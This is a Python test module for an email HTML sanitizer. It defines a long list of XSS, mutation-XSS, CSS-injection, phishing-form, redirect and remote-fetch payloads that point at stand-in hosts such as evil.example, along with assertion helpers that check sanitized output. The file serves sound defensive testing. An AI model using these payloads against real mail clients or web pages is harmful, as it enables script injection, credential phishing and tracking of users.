"""What attackers write into mails: the ways round a filter, mXSS, and everything that would be fetched (S-02, S-28)."""

# ruff: noqa: E501 - attacks as they are written

from __future__ import annotations

import re
from html.parser import HTMLParser

CALL = "window.pwned=1"
ATTACKS = [
    # Scripts and handlers
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/xss src='data:,{CALL}'></script>",
    f"<<script>{CALL};//<</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror\x0b={CALL}>",
    f"<img/src='x'/onerror={CALL}>",
    f'<img """><script>{CALL}</script>">',
    f'<img src="x` `<script>{CALL}</script>"` `>',
    f"<body onload={CALL}><html onclick={CALL}>",
    f"<svg/onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}><select onfocus={CALL} autofocus><textarea autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<video><source onerror={CALL}></video><audio src=x onerror={CALL}>",
    f"<a onmouseover={CALL} href=#>x</a><p onanimationstart={CALL} style='animation:x'>y</p>",
    f'<a href=https://x.example/"onclick={CALL}>x</a>',
    f"<isindex type=image src=1 onerror={CALL}><keygen autofocus onfocus={CALL}>",
    # Addresses that run
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='JaVaScRiPt:{CALL}'>x</a>",
    f"<a href=' \x01javascript:{CALL}'>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a><a href='java\nscript:{CALL}'>y</a><a href='java&#x0D;script:{CALL}'>z</a>",
    f"<a href='&#106;&#97;&#118;&#97;script&colon;{CALL}'>x</a>",
    f"<a href='&#0000106avascript:{CALL}'>x</a><a href='&#x6A&#x61vascript:{CALL}'>y</a>",
    f"<a href='javascript&NewLine;:{CALL}'>x</a><a href='feed:javascript:{CALL}'>y</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=='>x</a>",
    f"<a href='vbscript:{CALL}'>x</a><a href='livescript:{CALL}'>y</a><a href='blob:x'>z</a>",
    f"<img src='javascript:{CALL}'><img dynsrc='javascript:{CALL}'><img lowsrc='javascript:{CALL}'>",
    f"<table background='javascript:{CALL}'><tr><td background='javascript:{CALL}'>x</table>",
    f"<bgsound src='javascript:{CALL}'><frameset><frame src='javascript:{CALL}'></frameset>",
    f"<iframe src='javascript:{CALL}'></iframe><iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object><embed src='javascript:{CALL}'><applet code=x></applet>",
    f"<form action='javascript:{CALL}'><button formaction='javascript:{CALL}'>x</button></form><isindex action='javascript:{CALL}'>",
    f"<math href='javascript:{CALL}'>x</math><svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    "<a href='/sign-out/'>x</a><a href='//evil.example'>y</a><a href='?a=1'>z</a><a href='#top'>w</a>",
    # Markup that changes its meaning when it is read again (mXSS)
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math><mi><table><mi><mglyph><svg><mtext><style><path id="</style><img onerror={CALL} src>"></style>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<svg><style><img src=x onerror={CALL}></style></svg><svg><title><img src=x onerror={CALL}></title></svg>",
    f"<svg><desc><template><style></svg><img src=x onerror={CALL}>",
    f"<template><script>{CALL}</script><img src=x onerror={CALL}></template>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>"></xmp><noembed><img title="</noembed><img src=x onerror={CALL}>"></noembed>',
    f'<title><img title="</title><img src=x onerror={CALL}>"></title><textarea><img title="</textarea><img src=x onerror={CALL}>"></textarea>',
    f"<plaintext><img src=x onerror={CALL}>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror={CALL}>">',
    f'<p id="<style></p><img src=x onerror={CALL}>">x</p>',
    f"<!--><img src=x onerror={CALL}>--><!--[if IE]><script>{CALL}</script><![endif]--><![CDATA[<img src=x onerror={CALL}>]]>",
    f"<!-- --!><img src=x onerror={CALL}> --><?xml version='1.0'?><?php <img src=x onerror={CALL}> ?>",
    f"<table><colgroup><svg><foreignObject><img src=x onerror={CALL}></table>",
    f"<annotation-xml encoding='text/html'><img src=x onerror={CALL}></annotation-xml>",
    f"<div><table><a href=1<p><img src=x onerror={CALL}>",
    f"<a title='<img src=x onerror={CALL}>' href='https://x.example/?<script>{CALL}</script>'>x</a>",
    f"<img alt='&quot;><img src=x onerror={CALL}>' src='cid:x'><img src='cid:\"><script>{CALL}</script>'>",
    f"<span data-cid='\"><script>{CALL}</script>' data-remote='javascript:{CALL}'>x</span>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"%3Cscript%3E{CALL}%3C/script%3E &lt;script&gt;{CALL}&lt;/script&gt;",
    # What takes over the page around it
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'><meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "<form action='https://evil.example'><input name=password type=password><button>Sign in</button></form>",
    "<div id=composer name=csrfmiddlewaretoken class='btn btn-primary' popover hx-get='/sign-out/' hx-trigger=load data-poll=1>x</div>",
    "<a id=defaultView><a id=defaultView name=location><form name=body><input name=firstChild></form>",
    "</div></article></main><div class='toast'>Signed out</div>",
    # Looks that fetch or cover
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y)} </style>x",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/y'>",
    "<div style='background:url(https://evil.example/x.png)'>x</div><p style='list-style-image:url(//evil.example/x)'>y</p>",
    "<div style='background:u\\72l(https://evil.example/x.png);background-image:URL(\"javascript:1\")'>x</div>",
    f"<div style='width:expression({CALL});behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    f"<div style='width:ex/**/pression({CALL});color:exp\\ression({CALL})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:#fff'>Sign in again</div>",
    "<div style='color:red}body{background:url(https://evil.example/x)}'>x</div><font style='content:attr(x)' color='red;background:url(x)'>y</font>",
    "<p style='cursor:url(https://evil.example/c),auto;border-image:url(https://evil.example/d);mask:url(x);filter:url(x)'>x</p>",
    "<p style=\"font-family:'x';src:url(https://evil.example/f);color:image-set('https://evil.example/g' 1x)\">x</p>",
    "<p style='color:var(--x);width:calc(1px + env(x));background:-webkit-image-set(\"https://evil.example/g\" 1x)'>x</p>",
    # What is fetched
    "<img src='https://evil.example/t.gif'><img src='//evil.example/t.gif'><img src='\\\\evil.example\\t.gif'>",
    "<img srcset='https://evil.example/x.png 1x'><picture><source srcset='https://evil.example/y'><img></picture>",
    "<img src='/api/v1/tickets/PHD-1/attachments/1/'><img src='../../attachments/1/'><img src='attachments/1/'>",
    "<img src='http://127.0.0.1:8000/sign-out/'><img src='http://localhost/x'><img src='http://[::1]/x'><img src='http://0x7f000001/x'><img src='http://2130706433/'>",
    "<img src='file:///etc/passwd'><img src='ftp://evil.example/x'><img src='mhtml:https://evil.example!x'><img src='about:blank'>",
    f"<img src=\"data:image/svg+xml,<svg onload={CALL} xmlns='http://www.w3.org/2000/svg'/>\"><img src='data:text/html,x'>",
    "<video src='https://evil.example/v' poster='https://evil.example/p' autoplay></video><audio src='https://evil.example/a' autoplay></audio>",
    "<table background='https://evil.example/b'><td background=//evil.example/c>x</table><body background='https://evil.example/d'>",
    "<input type=image src='https://evil.example/x'><object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<iframe src='https://evil.example'></iframe><portal src='https://evil.example'></portal><fencedframe></fencedframe>",
    "<svg><image href='https://evil.example/x'/><use href='https://evil.example/x#y'/><feImage href='https://evil.example/x'/></svg>",
    "<blockquote cite='https://evil.example/x'>x</blockquote><q cite='javascript:1'>y</q><a ping='https://evil.example/p' href='https://x.example'>z</a>",
    "<a href='https://x.example' target=_self rel=opener download>x</a>",
]
ATTACKS_IN_PARTS = [attack.replace("\x01", "").replace("\x0b", "") for attack in ATTACKS]

SAFE_TAGS = frozenset(
    re.findall(
        r"\w+",
        "a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt"
        " em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section"
        " small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr details summary",
    )
)
SAFE_ATTRIBUTES = frozenset(
    re.findall(
        r"[\w-]+",
        "href title target rel src alt width height align valign bgcolor border cellpadding cellspacing bordercolor rules"
        " colspan rowspan nowrap scope color face size start datetime dir lang style class data-cid data-remote",
    )
)


class Reader(HTMLParser):
    """Reads the tags of what is shown, as strictly as a test can."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def harmless(markup: str) -> None:
    """Known tags and attributes, links to the web, pictures of the message only, no address in a style."""
    for tag, given in Reader(markup).tags:
        assert tag in SAFE_TAGS, tag
        assert given.keys() <= SAFE_ATTRIBUTES, given
        assert re.fullmatch(r"(?i)(?:https?://|mailto:|tel:).*", given.get("href", "https://"), re.DOTALL), given
        if "href" in given:
            assert (given["target"], given["rel"]) == ("_blank", "noopener noreferrer nofollow")
        assert re.fullmatch(
            r"(?i)cid:.*|data:image/(?:png|jpe?g|gif|webp);base64,.*", given.get("src", "cid:"), re.DOTALL
        ), given
        assert re.fullmatch(r"(?i)https?://[^/]*\.[a-z].*", given.get("data-remote", "https://x.example")), given
        assert not re.search(
            r"(?i)url|expression|import|@|\\|position|behavior|binding|javascript", given.get("style", "")
        ), given
        assert given.get("class", "quoted") == "quoted" or given["class"].startswith("Mso")


def nothing_runs(markup: str) -> None:
    """For a whole page of ours: no tag that runs or takes over, no handler, no address that runs."""
    for tag, given in Reader(markup).tags:
        assert tag not in {"script", "style", "object", "embed", "base", "meta", "link", "math", "frame", "template"}, (
            tag
        )
        assert not [name for name in given if name.startswith("on") or name == "srcdoc"], given
        for name in ("href", "src", "action", "formaction", "background", "xlink:href"):
            assert not re.match(r"[\s\x00-\x1f]*(?:java|vb|live)script|\s*data:(?!image/)", given.get(name, "")), given
